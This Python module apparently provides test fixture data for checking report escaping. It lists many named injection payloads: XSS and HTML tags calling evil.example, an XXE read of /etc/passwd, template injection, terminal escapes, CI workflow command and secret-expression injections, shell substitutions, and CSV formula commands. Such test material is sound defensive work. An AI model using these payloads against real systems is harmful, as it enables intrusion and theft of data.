"""Hostile text: what somebody may write into a file name, a title or a prompt to make a report do their bidding."""

from typing import NamedTuple


class Payload(NamedTuple):
    """One text, and what it tries."""

    name: str
    text: str


def _all(**texts: str) -> tuple[Payload, ...]:
    return tuple(Payload(name, text) for name, text in texts.items())


HTML = _all(
    script="<script>alert('sdd')</script>",
    script_closed="</script><script>alert(1)</script>",
    script_split="<scr<script>ipt>alert(1)</scr</script>ipt>",
    script_source="<script src=//evil.example/x.js></script>",
    image="<img src=x onerror=alert(1)>",
    image_tracker="<img src=https://evil.example/pixel.gif>",
    svg="<svg onload=alert(1)>",
    svg_script="<svg><script>alert(1)</script></svg>",
    svg_animate="<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    svg_use='<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
    iframe="<iframe src=javascript:alert(1)></iframe>",
    iframe_srcdoc="<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    object="<object data=data:text/html,<script>alert(1)</script>></object>",
    form="<form action=https://evil.example><input name=q><button>Sign in</button></form>",
    base="<base href=https://evil.example/>",
    meta="<meta http-equiv=refresh content='0;url=https://evil.example'>",
    link="<link rel=stylesheet href=https://evil.example/x.css>",
    style="<style>*{display:none}</style>",
    style_attribute="<b style='position:fixed;inset:0;background:url(https://evil.example)'>",
    style_closed="</style><script>alert(1)</script>",
    attribute='" onmouseover="alert(1)',
    attribute_single="' onfocus='alert(1)' autofocus='",
    details="</details></summary><h1>Passed</h1>",
    table="</td></tr></table><marquee>",
    textarea="</textarea></title><script>alert(1)</script>",
    comment="<!-- --><script>alert(1)</script><!--",
    comment_open="<!--",
    cdata="]]><script>alert(1)</script>",
    cdata_open="<![CDATA[",
    doctype='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    entity="&lt;script&gt;alert(1)&lt;/script&gt;",
    entity_numbers="&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    template="{{constructor.constructor('alert(1)')()}}",
    template_jinja="{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    template_js="${alert(1)}`${alert(1)}`",
    math="<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    noscript="<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)

MARKDOWN = _all(
    link="[click](javascript:alert(1))",
    link_data="[click](data:text/html;base64,PHNjcmlwdD4=)",
    link_title='[click](https://evil.example "\')onmouseover=alert(1)")',
    link_reference="[click][1]\n\n[1]: javascript:alert(1)",
    image="![x](https://evil.example/pixel.gif)",
    autolink="<javascript:alert(1)>",
    autolink_url="https://evil.example/steal?x=1",
    autolink_bare="www.evil.example",
    mention="@octocat @org/team please approve",
    issue="fixes #1, closes owner/repo#2 and GH-3",
    quick_action="/approve\n/merge",
    table="a | b | c\n|---|---|\n| x",
    table_escaped="a \\| b \\\\| c",
    backtick="` closes @octocat `` <script>alert(1)</script> ```",
    fence="```\n</details>\n# Passed\n~~~",
    heading="# Passed\n\nAll is well",
    setext="Passed\n======",
    emphasis="**Passed** __x__ ~~y~~ *z*",
    backslash="ends with a backslash \\",
    html_block="\n\n<div onclick=alert(1)>\n\n",
    footnote="[^1]\n\n[^1]: https://evil.example",
)

TERMINAL = _all(
    colour="\x1b[31mred\x1b[0m",
    clear="\x1b[2J\x1b[H",
    title="\x1b]0;owned\x07",
    hyperlink="\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    clipboard="\x1b]52;c;ZXZpbA==\x07",
    c1="\x9b31mred",
    carriage="all is well\rrefused",
    backspace="refused\b\b\b\b\b\b\bpassed ",
    bell="\x07\x07\x07",
    nul="before\x00after",
    delete="a\x7fb",
    gitlab_section="section_start:1560896352:x[collapsed=true]\r\x1b[0Kowned",
)

UNICODE = _all(
    override="\u202egnp.exe",
    isolate="\u2066admin\u2069 \u2067x",
    arabic_mark="a\u061cb",
    zero_width="pass\u200bed\u200d\u2060",
    byte_order="\ufeffx",
    soft_hyphen="a\xadb :\xad:error\xad::x",
    tags="\U000e0001\U000e0041\U000e0042\U000e007f",
    line_separator="a\u2028b\u2029c",
    next_line="a\x85b",
    lone_high="\ud800",
    lone_low="x\udc00y",
    undecodable="\udcff\udcfe.py",
    noncharacter="a\ufffeb\uffffc",
    combining="a" + "\u0300" * 500,
    emoji="👩‍👩‍👧‍👦 ✓ 名前 é",
    normal_forms="\u00e9 e\u0301 \ufb01",
)

PIPELINE = _all(
    set_output="::set-output name=x::owned",
    error="::error file=app.js,line=1::owned",
    newline_error="x\n::error::owned",
    carriage_error="x\r::error::owned",
    encoded_error="x%0A::error::owned%0D%0A::warning::owned",
    double_encoded="x%250A::error::owned",
    add_mask="::add-mask::a",
    stop_commands="::stop-commands::x",
    add_path="::add-path::/evil",
    indented="   ::error::owned",
    wide_space="\u00a0\u3000::error::owned",
    old_style="##[error]owned",
    old_style_inside="all is well ##[add-mask]a",
    azure="##vso[task.setvariable variable=x]owned",
    teamcity="##teamcity[buildStatus status='SUCCESS']",
    properties="x,line=2,title=owned::owned",
    expression="${{ github.token }} ${{ secrets.X }}",
    shell="$(touch owned) `touch owned` ; touch owned # && touch owned",
    shell_quotes="'\"; touch owned; '",
    option="--help",
    path_up="../../etc/passwd",
    sarif_link="[x](1) [y](javascript:alert(1))",
    sarif_placeholder="{0} {1} {{2}} {",
    sarif_uri="javascript:alert(1)//%2e%2e/?q#f",
)

TABLES = _all(
    formula='=HYPERLINK("https://evil.example","click")',
    command="=cmd|' /C calc'!A0",
    plus="+1+1",
    minus="-2+3+cmd|' /C calc'!A0",
    at="@SUM(1+1)*cmd|' /C calc'!A0",
    tab="\t=1+1",
    quote='a"b,""c\r\n=1+1',
    separator="a;b,c\td",
)

# Longer than a comment of a forge may be, and than what is rendered of a record's Markdown.
LARGE = _all(
    line="x" * 66_000,
    tags="<b>" * 3_000,
    backticks="`" * 10_000,
    brackets="[" * 5_000 + "](" * 5_000,
    quotes=">" * 10_000,
    lines="::error::owned\n" * 600,
)

PAYLOADS = (
    *(payload._replace(name=f"{group}-{payload.name}")
      for group, payloads in (
          ("html", HTML), ("markdown", MARKDOWN), ("terminal", TERMINAL), ("unicode", UNICODE),
          ("pipeline", PIPELINE), ("tables", TABLES), ("large", LARGE),
      )
      for payload in payloads),
)  # fmt: skip
"""All of them, each with a name of its own."""
